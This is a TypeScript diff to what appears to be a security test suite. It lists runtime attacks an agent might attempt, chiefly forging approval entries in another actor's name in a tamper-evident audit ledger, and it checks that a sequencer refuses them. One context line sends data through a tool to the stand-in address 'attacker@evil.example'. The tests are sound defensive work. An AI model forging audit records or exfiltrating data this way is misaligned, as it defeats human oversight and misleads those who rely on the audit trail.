@@ -162,16 +162,24 @@ export function runtimeAttempts(topology: Topology, agent: string): RuntimeAttem
       atRuntime: recordThroughGateway(ownHighTool.name, { to: 'attacker@evil.example' }),
     });
   }
-  add('append a ledger entry in another actor’s name', [
+  add('append to the sealed ledger directly', [
     { action: 'dynamodb:PutItem', resource: table({ kind: 'table', table: 'ledger' }), context: { 'dynamodb:LeadingKeys': 'main' } },
+  ]);
+  add(`append a pending ledger entry in ${victim}'s partition`, [
+    { action: 'dynamodb:PutItem', resource: table({ kind: 'table', table: 'ledger' }), context: { 'dynamodb:LeadingKeys': `${victim}#pending` } },
+  ]);
+  add('append a ledger entry in another actor’s name, in its own pending partition', [
+    { action: 'dynamodb:PutItem', resource: table({ kind: 'table', table: 'ledger' }), context: { 'dynamodb:LeadingKeys': `${agent}#pending` } },
   ], {
-    openGap: 'every role appends to the one chain and names its actor itself; per-writer partitions and a single sequencer (DESIGN §7) close it',
     atRuntime: async (rt) => {
-      const entry = await rt.appendAs('carol', { type: 'approval.recorded', detail: { forgedBy: agent } });
-      const verify = await (await rt.as('alice')).verifyAudit();
-      return verify.ok
-        ? { mechanism: 'succeeded', evidence: `entry ${entry} names carol and the ledger verifies` }
-        : { mechanism: 'detected', evidence: `audit verify: firstBadSeq ${verify.firstBadSeq}` };
+      const pendingId = await rt.appendPendingAs(agent, { type: 'approval.recorded', actor: 'carol', detail: { forgedBy: agent } });
+      const sealed = await rt.ledger();
+      const refused = sealed.find((e) => e.type === 'ledger.refused' && e.detail?.pendingId === pendingId);
+      const forged = sealed.find((e) => e.pending === `${agent}#pending/${pendingId}` && e.type !== 'ledger.refused');
+      if (forged) return { mechanism: 'succeeded', evidence: `sealed at seq ${forged.seq} as ${forged.actor}` };
+      return refused
+        ? { mechanism: 'refused by code', evidence: `the sequencer sealed ledger.refused ${refused.reason} at seq ${refused.seq} instead` }
+        : { mechanism: 'succeeded', evidence: 'neither sealed nor refused: the entry vanished unrecorded' };
     },
   });
   return attempts;
